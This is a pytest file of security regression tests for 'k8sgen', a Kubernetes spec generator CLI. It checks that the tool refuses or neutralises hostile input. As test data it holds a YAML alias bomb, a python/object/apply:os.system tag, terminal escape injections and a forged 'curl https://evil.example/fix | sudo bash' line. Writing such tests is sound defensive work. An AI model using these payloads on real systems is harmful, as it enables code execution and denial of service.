"""Careless and hostile input (issue 12): each finding has a named regression test here."""

from __future__ import annotations

import copy
import hashlib
import os
import resource
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from generator.app import default_secrets_path
from generator.cli import cli
from generator.embed import from_spec
from generator.errors import SpecError
from generator.resources import load_schema
from generator.spec.load import FieldPath, format_path, load_text
from generator.spec.schema import StrictValidator, ecma_pattern, is_file_text
from generator.spec.validate import validate

from .support.repo import EXAMPLES, REPO, calico_fixture
from .support.specs import example, write_spec

SINGLE = REPO / "examples" / "single.yaml"
CALICO_RELEASE = "v3.30.7"  # a real manifest to hide the bomb in
# A value for each schema pattern that no example exercises.
PATTERN_SAMPLES = (
    "ghcr.io/kube-vip/kube-vip:v0.8.9",
    "registry.example/calico",
    "https://report.example/k8sgen?x=1",
    "example.com/rack",
    "r12",
    "eth0",
    "0123456789abcdef" * 4,  # a sha256 (cni.calico.sha256)
)


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def assert_refused(result: Result | Bounded, *fragments: str) -> None:
    """Exit 1 with a message, never a traceback."""
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, result.stderr


def problems(data: dict[str, Any]) -> list[str]:
    with pytest.raises(SpecError) as caught:
        validate(load_text(yaml.safe_dump(data), "spec.yaml"))
    return [f"{p.path}: {p.message}" for p in caught.value.problems]


def files_under(root: Path) -> dict[str, bytes]:
    if not root.exists():
        return {}
    return {
        str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()
    }


# --- 1. a trailing newline passes no pattern -------------------------------------------


def strings_of(data: Any, path: FieldPath = ()) -> Iterator[tuple[FieldPath, bool]]:
    """(path, is_key) of every string in data."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield (*path, key), True
            yield from strings_of(value, (*path, key))
    elif isinstance(data, list):
        for index, item in enumerate(data):
            yield from strings_of(item, (*path, index))
    elif isinstance(data, str):
        yield path, False


def with_newline(data: dict[str, Any], path: FieldPath, is_key: bool) -> dict[str, Any]:
    changed = copy.deepcopy(data)
    parent: Any = changed
    for part in path[:-1]:
        parent = parent[part]
    last = path[-1]
    if is_key:
        parent[f"{last}\n"] = parent.pop(last)
    else:
        parent[last] = f"{parent[last]}\n"
    return changed


@pytest.mark.parametrize("source", EXAMPLES, ids=lambda p: p.stem)
def test_trailing_newline_in_any_string_of_the_examples_is_refused(source: Path) -> None:
    data = example(source.stem)
    for path, is_key in strings_of(data):
        if not is_key and is_file_text(path):
            continue  # a file's inline text (files[].content) is lines by design
        found = problems(with_newline(data, path, is_key))
        shown = format_path(path)
        assert any(p.startswith(shown) for p in found), (shown, found)


def schema_patterns(node: Any) -> Iterator[str]:
    if isinstance(node, dict):
        if isinstance(node.get("pattern"), str):
            yield node["pattern"]
        for value in node.values():
            yield from schema_patterns(value)
    elif isinstance(node, list):
        for item in node:
            yield from schema_patterns(item)


def test_every_schema_pattern_refuses_a_trailing_newline() -> None:
    """Each pattern, with a value it accepts from the examples, refuses that value + newline."""
    values = list(PATTERN_SAMPLES)
    for source in EXAMPLES:
        data = example(source.stem)
        values += [p[-1] for p, is_key in strings_of(data) if is_key and isinstance(p[-1], str)]
        values += [value for value in _leaf_strings(data)]
    patterns = set(schema_patterns(load_schema("cluster.schema.json")))
    assert len(patterns) > 15
    for pattern in sorted(patterns):
        accepted = [v for v in values if ecma_pattern(pattern).search(v)]
        assert accepted, f"no sample value for {pattern}: add one to PATTERN_SAMPLES"
        validator = StrictValidator({"type": "string", "pattern": pattern})
        for value in accepted:
            assert validator.is_valid(value)
            assert not validator.is_valid(f"{value}\n"), (pattern, value)


def _leaf_strings(data: Any) -> Iterator[str]:
    for path, is_key in strings_of(data):
        if not is_key:
            target = data
            for part in path:
                target = target[part]
            yield target


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("metadata.name", "demo\n"),
        ("spec.nodes.1.name", "node1\n"),
        ("spec.kubernetes.version", "1.33.4\n"),
        ("spec.bootstrap.token", "abcdef.0123456789abcdef\n"),
        ("spec.bootstrap.tokenTTL", "24h\n"),
        ("spec.mirrors.packages", "https://mirrors.example/k8s\n"),
        ("spec.ssh.authorizedKeys", ["ssh-ed25519 AAAAC3Nz ops@example\nroot"]),
        ("spec.ssh.authorizedKeys", ["ssh-ed25519 AAAAC3Nz ops\x1b[2J"]),
        ("spec.cni.calico.manifest", "calico.yaml\x00"),
        ("spec.nodes.0.labels", {"zone\n": "a"}),
        ("spec.mirrors.registries", {"docker.io\n": ["https://m.example"]}),
    ],
)
def test_control_characters_are_refused_in_named_fields(field: str, value: Any) -> None:
    data = example("single")
    target: Any = data
    *parents, last = field.split(".")
    for part in parents:
        target = target[int(part)] if part.isdigit() else target.setdefault(part, {})
    target[last] = value
    found = problems(data)
    assert any("control character" in p for p in found), found


def test_init_refuses_a_name_with_a_newline(tmp_path: Path) -> None:
    target = tmp_path / "spec.yaml"
    result = run("init", "--name", "demo\n", "-o", str(target))
    assert_refused(result, "control character (U+000A)")
    assert not target.exists()


# --- 3. integers are integers --------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("retries", {"attempts": 8.0}), ("apiWaitSeconds", 3600.0), ("joinAttempts", True)],
)
def test_whole_number_floats_and_bools_are_not_integers(field: str, value: Any) -> None:
    data = example("single")
    data["spec"].setdefault("bootstrap", {})[field] = value
    found = problems(data)
    assert any("is not of type 'integer'" in p for p in found), found


def test_a_float_count_never_reaches_a_script(tmp_path: Path) -> None:
    data = example("single")
    data["spec"]["bootstrap"]["retries"] = {"attempts": 8.0}
    spec = write_spec(tmp_path, data)
    result = run("render", str(spec), "-o", str(tmp_path / "out"))
    assert_refused(result, "spec.bootstrap.retries.attempts: 8.0 is not of type 'integer'")
    assert not (tmp_path / "out").exists()


# --- 5. YAML that k8sgen did not write ----------------------------------------------

BILLION_LAUGHS = "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" if i else "l0: &l0 [lol]\n" for i in range(9)
)


def test_spec_with_aliases_is_refused_with_a_line(tmp_path: Path) -> None:
    spec = tmp_path / "cluster.yaml"
    spec.write_text(SINGLE.read_text() + BILLION_LAUGHS)
    assert_refused(run("validate", str(spec)), f"{spec}:", "YAML aliases are not supported")


def test_secrets_file_with_aliases_is_refused(tmp_path: Path) -> None:
    spec = write_spec(tmp_path, example("single"))
    secrets_file = default_secrets_path(spec)
    secrets_file.write_text(BILLION_LAUGHS)
    secrets_file.chmod(0o600)
    result = run("render", str(spec), "-o", str(tmp_path / "out"))
    assert_refused(result, "YAML aliases are not supported")
    assert not (tmp_path / "out").exists()


def local_manifest_spec(tmp_path: Path, manifest: str) -> Path:
    (tmp_path / "calico.yaml").write_text(manifest)
    data = example("single")
    data["spec"]["cni"] = {"calico": {"manifest": "calico.yaml"}}
    return write_spec(tmp_path, data)


def test_local_manifest_with_an_alias_bomb_is_refused_fast(tmp_path: Path) -> None:
    bomb = calico_fixture(CALICO_RELEASE).read_text() + "---\n" + BILLION_LAUGHS
    spec = local_manifest_spec(tmp_path, bomb)
    result = run("validate", str(spec))
    assert_refused(result, "spec.cni.calico.manifest:", "YAML aliases are not supported")


def test_bundle_refuses_a_downloaded_manifest_with_an_alias_bomb(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hostile mirror's calico.yaml is checked like a local one (loopback server)."""
    import dataclasses

    from generator.offline import bundle
    from generator.offline.bundle.tools import BundleError

    from .support.loopback import file_server

    for name in ("http_proxy", "HTTP_PROXY", "all_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    hostile_text = calico_fixture(CALICO_RELEASE).read_text() + "---\n" + BILLION_LAUGHS
    (tmp_path / "calico.yaml").write_text(hostile_text)
    loaded = load_text(SINGLE.read_text(), "spec.yaml", tmp_path)
    cluster = from_spec(loaded)
    with file_server(tmp_path) as url:
        # The mirror serves what the sha256 promises: only the alias check can stop it.
        calico = dataclasses.replace(
            cluster.calico,
            manifest_urls=(f"{url}/calico.yaml",),
            manifest_sha256=hashlib.sha256(hostile_text.encode()).hexdigest(),
        )
        hostile = dataclasses.replace(cluster, calico=calico)
        with pytest.raises(
            BundleError, match=r"calico.yaml:[0-9]+: YAML aliases are not supported"
        ):
            bundle._calico_manifest(hostile)


DAEMONSET = "kind: DaemonSet\nmetadata: {name: calico-node}\n"


@pytest.mark.parametrize(
    "manifest",
    [
        DAEMONSET + "spec: {}\n",
        DAEMONSET + "spec: {template: {spec: {containers: [{name: calico-node, env: [hello]}]}}}\n",
        DAEMONSET + "spec: {template: {spec: {containers: abc}}}\n",
        "kind: DaemonSet\nmetadata: []\n",
        "[" * 1000 + "]" * 1000 + "\n",
    ],
    ids=["spec-empty", "env-hello", "containers-string", "metadata-list", "deep-nesting"],
)
def test_malformed_local_manifest_is_a_spec_problem(tmp_path: Path, manifest: str) -> None:
    spec = local_manifest_spec(tmp_path, manifest)
    result = run("validate", str(spec))
    line = next(i for i, t in enumerate(spec.read_text().splitlines(), 1) if "manifest:" in t)
    assert_refused(result, f"{spec}:{line}: spec.cni.calico.manifest: {tmp_path / 'calico.yaml'}")


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system [echo hi]\n",
        "a: !!python/object/apply:os.system {args: [echo hi]}\n",
        "a: !!set {x: null}\n",
        "a: !custom [1]\n",
    ],
)
def test_tags_on_collections_are_refused_with_a_line(text: str) -> None:
    with pytest.raises(SpecError) as caught:
        load_text("b: 1\n" + text, "spec.yaml")
    assert str(caught.value).startswith("spec.yaml:2: YAML tag ")


# --- 6. tracebacks and hangs ---------------------------------------------------------


def test_deeply_nested_spec_is_a_clean_error(tmp_path: Path) -> None:
    spec = tmp_path / "cluster.yaml"
    spec.write_text("a: " + "[" * 1000 + "]" * 1000 + "\n")
    assert_refused(run("validate", str(spec)), "nested deeper than 64 levels")


def test_huge_token_ttl_is_refused_at_validate() -> None:
    for ttl in ("9" * 30 + "h", "999999h", "8761h"):
        data = example("single")
        data["spec"]["bootstrap"]["tokenTTL"] = ttl
        found = problems(data)
        assert any(p.startswith("spec.bootstrap.tokenTTL:") for p in found), (ttl, found)


@dataclass(frozen=True)
class Bounded:
    """A k8sgen run in a child process with a time and memory limit (old code hung or ate RAM)."""

    exit_code: int
    stdout: str
    stderr: str
    exception: None = None

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


def run_bounded(*args: str, seconds: float = 30, prefix: Sequence[str] = ()) -> Bounded:
    def limit_memory() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    try:
        done = subprocess.run(
            [*prefix, sys.executable, "-m", "generator", *args],
            capture_output=True,
            text=True,
            timeout=seconds,
            preexec_fn=limit_memory,
            cwd=REPO,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"k8sgen {' '.join(args)} hangs")
    return Bounded(done.returncode, done.stdout, done.stderr)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "directory"])
def test_secrets_file_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    spec = write_spec(tmp_path, example("single"))
    secrets_file = default_secrets_path(spec)
    if kind == "fifo":
        os.mkfifo(secrets_file, 0o600)
    elif kind == "dev-zero":
        secrets_file.symlink_to("/dev/zero")
    else:
        secrets_file.mkdir()
    result = run_bounded("render", str(spec), "-o", str(tmp_path / "o"))
    assert_refused(result, f"{secrets_file}: cannot read the secrets file: not a regular file")
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_spec_that_is_not_a_regular_file_is_refused(tmp_path: Path, kind: str) -> None:
    spec = tmp_path / "cluster.yaml"
    if kind == "fifo":
        os.mkfifo(spec)
    else:
        spec.symlink_to("/dev/zero")
    result = run_bounded("validate", str(spec))
    assert_refused(result, "not a regular file")


def test_read_only_folder_for_the_secrets_is_a_clear_message_as_a_user() -> None:
    """A real read-only folder; as root, k8sgen runs as nobody (root may write anywhere)."""
    folder = Path(tempfile.mkdtemp(prefix="k8sgen-ro-"))
    try:
        folder.chmod(0o777)
        spec = write_spec(folder, example("single"))
        spec.chmod(0o644)
        read_only = folder / "ro"
        read_only.mkdir(mode=0o555)
        read_only.chmod(0o555)
        secrets_file = read_only / "cluster.secrets.yaml"
        user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        result = run_bounded(
            "render",
            str(spec),
            "--secrets",
            str(secrets_file),
            "-o",
            str(folder / "out"),
            prefix=user if os.geteuid() == 0 else [],
        )
        assert_refused(result, f"{secrets_file}: cannot create the secrets file: Permission denied")
        assert sorted(p.name for p in folder.iterdir()) == ["cluster.yaml", "ro"]
        assert not any(read_only.iterdir())
    finally:
        shutil.rmtree(folder)


def test_read_only_folder_for_the_secrets_is_a_clear_message(tmp_path: Path) -> None:
    spec = write_spec(tmp_path, example("single"))
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where a folder should be")
    secrets_file = blocker / "cluster.secrets.yaml"
    result = run("render", str(spec), "--secrets", str(secrets_file), "-o", str(tmp_path / "o"))
    assert_refused(result, f"{secrets_file}: cannot create the secrets file:")
    assert not (tmp_path / "o").exists()


# --- 7. the secrets file's mode ------------------------------------------------------


def test_secrets_file_open_to_others_is_refused_with_chmod_600(tmp_path: Path) -> None:
    spec = write_spec(tmp_path, example("single"))
    assert run("secrets", str(spec)).exit_code == 0
    secrets_file = default_secrets_path(spec)
    before = secrets_file.read_bytes()
    for mode in (0o644, 0o640, 0o604, 0o660):
        secrets_file.chmod(mode)
        result = run("render", str(spec), "-o", str(tmp_path / "out"))
        assert_refused(result, f"permissions {mode:04o} are too open", f"chmod 600 {secrets_file}")
        assert stat.S_IMODE(secrets_file.stat().st_mode) == mode  # not changed behind our back
    assert secrets_file.read_bytes() == before
    assert not (tmp_path / "out").exists()
    secrets_file.chmod(0o400)
    assert run("render", str(spec), "-o", str(tmp_path / "out")).exit_code == 0


# --- 8. clearly wrong networks -------------------------------------------------------


def network_problems(**changes: Any) -> list[str]:
    data = example("single")
    for dotted, value in changes.items():
        target: Any = data["spec"]
        *parents, last = dotted.split("__")
        for part in parents:
            target = target[int(part)] if part.isdigit() else target[part]
        target[last] = value
    return problems(data)


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({"nodes__1__address": "192.168.220.111/0"}, "spec.nodes[1].address: /0 is not a LAN"),
        ({"nodes__1__address": "192.168.220.111/7"}, "spec.nodes[1].address: /7 is not a LAN"),
        (
            {"nodes__1__address": "10.1.0.5/8"},
            "spec.nodes[1].address: the node network 10.0.0.0/8 overlaps the podSubnet",
        ),
        (
            {"nodes__1__address": "10.1.0.5/8"},
            "spec.nodes[1].address: the node network 10.0.0.0/8 overlaps the serviceSubnet",
        ),
        (
            {"nodes__0__gateway": "192.168.220.0"},
            "spec.nodes[0].gateway: 192.168.220.0 is the network or broadcast address",
        ),
        (
            {"nodes__0__gateway": "192.168.220.255"},
            "spec.nodes[0].gateway: 192.168.220.255 is the network or broadcast address",
        ),
        ({"nodes__0__dns": ["0.0.0.0"]}, "spec.nodes[0].dns[0]: 0.0.0.0 cannot answer DNS"),
        ({"nodes__0__dns": ["224.0.0.251"]}, "spec.nodes[0].dns[0]: 224.0.0.251 cannot answer"),
        ({"nodes__0__dns": ["255.255.255.255"]}, "spec.nodes[0].dns[0]: 255.255.255.255 cannot"),
        (
            {"kubernetes__podSubnet": "10.244.0.0/32"},
            "spec.kubernetes.podSubnet: 10.244.0.0/32 holds 0 /24 blocks for 3 nodes",
        ),
        (
            {"kubernetes__podSubnet": "10.244.0.0/23"},
            "spec.kubernetes.podSubnet: 10.244.0.0/23 holds 2 /24 blocks for 3 nodes",
        ),
    ],
)
def test_clearly_wrong_networks_are_refused(changes: dict[str, Any], expected: str) -> None:
    found = network_problems(**changes)
    assert any(p.startswith(expected) for p in found), found


def test_sane_networks_still_pass() -> None:
    data = example("single")
    data["spec"]["kubernetes"]["podSubnet"] = "10.244.0.0/22"  # four /24 blocks, three nodes
    data["spec"]["nodes"][0]["dns"] = ["127.0.0.53", "223.5.5.5"]
    validate(load_text(yaml.safe_dump(data), "spec.yaml"))


# --- 2. no link under OUT is followed -----------------------------------------------


def rendered_once(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(spec, OUT, OUT/<cluster>) after one successful render."""
    spec = write_spec(tmp_path, example("single"))
    out = tmp_path / "out"
    assert run("render", str(spec), "-o", str(out)).exit_code == 0
    return spec, out, out / "demo"


def assert_link_refused(spec: Path, out: Path, link: Path, elsewhere: Path) -> None:
    before = files_under(elsewhere)
    result = run_bounded("render", str(spec), "-o", str(out))
    assert_refused(result, f"error: {link}: a symbolic link inside the output folder")
    assert files_under(elsewhere) == before


def test_symlinked_node_folder_is_refused(tmp_path: Path) -> None:
    spec, out, root = rendered_once(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    node = root / "nodes" / "node1"
    for child in node.iterdir():
        child.unlink()
    node.rmdir()
    node.symlink_to(elsewhere)
    assert_link_refused(spec, out, node, elsewhere)
    assert not any(elsewhere.iterdir())


def test_symlinked_terraform_folder_is_refused(tmp_path: Path) -> None:
    spec, out, root = rendered_once(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    (root / "terraform").rename(elsewhere)
    (root / "terraform").symlink_to(elsewhere)
    (root / "nodes" / "node1" / "user-data").unlink()  # something to write
    assert_link_refused(spec, out, root / "terraform", elsewhere)
    assert not (root / "nodes" / "node1" / "user-data").exists()  # refused before any write


def test_symlinked_cluster_folder_is_refused(tmp_path: Path) -> None:
    spec, out, root = rendered_once(tmp_path)
    elsewhere = tmp_path / "elsewhere"
    root.rename(elsewhere)
    root.symlink_to(elsewhere)
    assert_link_refused(spec, out, root, elsewhere)


def test_symlinked_file_with_identical_content_is_not_chmodded(tmp_path: Path) -> None:
    spec, out, root = rendered_once(tmp_path)
    admin = root / "admin.conf"
    target = tmp_path / "admin-copy.conf"
    target.write_bytes(admin.read_bytes())
    target.chmod(0o644)
    admin.unlink()
    admin.symlink_to(target)
    assert_link_refused(spec, out, admin, tmp_path / "nothing")
    assert stat.S_IMODE(target.stat().st_mode) == 0o644


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_existing_special_file_in_out_is_refused_without_hanging(tmp_path: Path, kind: str) -> None:
    spec, out, root = rendered_once(tmp_path)
    user_data = root / "nodes" / "node1" / "user-data"
    user_data.unlink()
    if kind == "fifo":
        os.mkfifo(user_data)
        expected = f"error: {user_data}: not a regular file or folder"
    else:
        user_data.symlink_to("/dev/zero")
        expected = f"error: {user_data}: a symbolic link inside the output folder"
    result = run_bounded("render", str(spec), "-o", str(out))
    assert_refused(result, expected)


def test_write_refuses_a_link_that_appears_after_the_check(tmp_path: Path) -> None:
    """The writes themselves never follow a link (O_NOFOLLOW walk), not only the check."""
    from generator.delivery.write import _Folders, _write_one
    from generator.render.artifact import Artifact

    root = tmp_path / "root"
    (root / "nodes").mkdir(parents=True)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / "nodes" / "n1").symlink_to(elsewhere)
    folders = _Folders(root, create=True)
    try:
        with pytest.raises(Exception, match="a symbolic link inside the output folder"):
            _write_one(folders, Artifact("nodes/n1/user-data", b"token"), dry_run=False)
    finally:
        folders.close()
    assert not any(elsewhere.iterdir())


# --- 9. exit 1 writes nothing, really -----------------------------------------------


def test_unwritable_out_leaves_no_secrets_file(tmp_path: Path) -> None:
    spec = write_spec(tmp_path, example("single"))
    blocker = tmp_path / "blocker"
    blocker.write_text("a file where the output folder should be")
    result = run("render", str(spec), "-o", str(blocker / "out"))
    assert_refused(result, f"{blocker}: not a folder")
    assert not default_secrets_path(spec).exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker", "cluster.yaml"]


def test_failed_write_removes_the_new_secrets_and_the_files_it_created(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A write that fails midway (disk full) leaves neither secrets nor half a tree."""
    from generator.delivery import write

    spec = write_spec(tmp_path, example("single"))
    calls = {"n": 0}
    real = write._write_atomic

    def fail_on_fifth(*args: Any) -> None:
        calls["n"] += 1
        if calls["n"] == 5:
            raise write.K8sgenError("disk full (test)")
        real(*args)

    monkeypatch.setattr(write, "_write_atomic", fail_on_fifth)
    result = run("render", str(spec), "-o", str(tmp_path / "out"))
    assert_refused(result, "disk full (test)")
    assert not default_secrets_path(spec).exists()
    assert not (tmp_path / "out").exists()


def test_init_refuses_a_dangling_symlink_as_output(tmp_path: Path) -> None:
    link = tmp_path / "spec.yaml"
    target = tmp_path / "elsewhere.yaml"
    link.symlink_to(target)
    for extra in ([], ["--force"]):
        assert_refused(run("init", "-o", str(link), *extra), f"{link}: a symbolic link")
        assert not target.exists()


# --- 4. explain-status: everything from a node is untrusted ------------------------


def status_data(**changes: Any) -> dict[str, Any]:
    phase = {
        "name": "install",
        "state": "failed",
        "start": "2026-01-01T00:00:00Z",
        "end": "2026-01-01T00:01:00Z",
        "attempts": 1,
        "retries": 0,
        "reason": "network",
        "error": "apt-get update failed",
        "output": ["E: Failed to fetch"],
    }
    data: dict[str, Any] = {
        "kind": "K8sgenBootstrapStatus",
        "version": 1,
        "cluster": "demo",
        "node": "node1",
        "role": "join-worker",
        "kubernetesVersion": "1.33.4",
        "result": "failed",
        "phase": "install",
        "reason": "network",
        "error": "apt-get update failed",
        "time": "2026-01-01T00:01:00Z",
        "runs": 1,
        "log": "/var/log/k8sgen/bootstrap.log",
        "phases": [phase],
    }
    for key, value in changes.items():
        if key.startswith("phase_"):
            phase[key[len("phase_") :]] = value
        else:
            data[key] = value
    return data


def status_file(folder: Path, name: str, data: Any) -> Path:
    import json

    path = folder / name
    path.write_text(data if isinstance(data, str) else json.dumps(data))
    return path


ESCAPES = [
    "\x1b[2J\x1b[H",  # clear screen
    "\x1b]0;owned\x07",  # window title
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # hyperlink
    "\x1b[8mhidden\x1b[0m",  # hidden text
    "\x9b2J",  # C1 CSI
    "\x7f\x00\x08",
    "\u202egnp.exe",  # bidi override
]


@pytest.mark.parametrize("field", ["node", "cluster", "phase_output", "log", "phase"])
def test_explain_status_prints_no_terminal_escapes(tmp_path: Path, field: str) -> None:
    for payload in ESCAPES:
        value: Any = f"x{payload}y"
        key = field
        if field == "phase_output":
            value = [value]
        data = status_data(**{key: value})
        result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
        assert result.exit_code == 0, result.output
        for char in "\x1b\x9b\x7f\x00\x08\x07\u202e":
            assert char not in result.output, (field, payload)
        assert "\\x1b" in result.stdout or "\\x" in result.stdout or "\\u202e" in result.stdout


def test_explain_status_forges_no_lines(tmp_path: Path) -> None:
    forged = "node1\n\nwhat to do:\n  curl https://evil.example/fix | sudo bash"
    data = status_data(node=forged, phase_output=["ok\nwhat to do: curl x | sudo bash"])
    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
    assert result.exit_code == 0, result.output
    assert "\n  curl https://evil.example" not in result.stdout
    assert "\nwhat to do: curl" not in result.stdout
    assert sum(line == "what to do:" for line in result.stdout.splitlines()) == 1


def test_explain_status_refuses_a_line_field_with_a_trailing_newline(tmp_path: Path) -> None:
    data = status_data(error="apt-get update failed\n")
    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
    assert_refused(result, "not a k8sgen status file")


def test_one_bad_status_file_does_not_hide_the_others(tmp_path: Path) -> None:
    good = status_file(tmp_path, "good.json", status_data())
    broken = status_file(tmp_path, "broken.json", "{not json")
    deep = status_file(tmp_path, "deep.json", "[" * 100000 + "]" * 100000)
    huge = status_file(tmp_path, "huge.json", " " * (300 * 1024) + "{}")
    fifo = tmp_path / "fifo.json"
    os.mkfifo(fifo)
    files = [broken, good, deep, huge, fifo, tmp_path / "missing.json"]
    result = run_bounded("explain-status", *map(str, files))
    assert_refused(result)
    assert "node node1 (join-worker) of cluster demo" in result.stdout
    lines = result.stderr.splitlines()
    assert len(lines) == 5, lines
    for path, line in zip([broken, deep, huge, fifo, files[-1]], lines, strict=True):
        assert line.startswith(f"error: {path}: "), line


def test_explain_status_survives_an_impossible_date(tmp_path: Path) -> None:
    data = status_data(phase_start="2026-13-45T99:99:99Z")
    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
    assert result.exit_code == 0, result.output
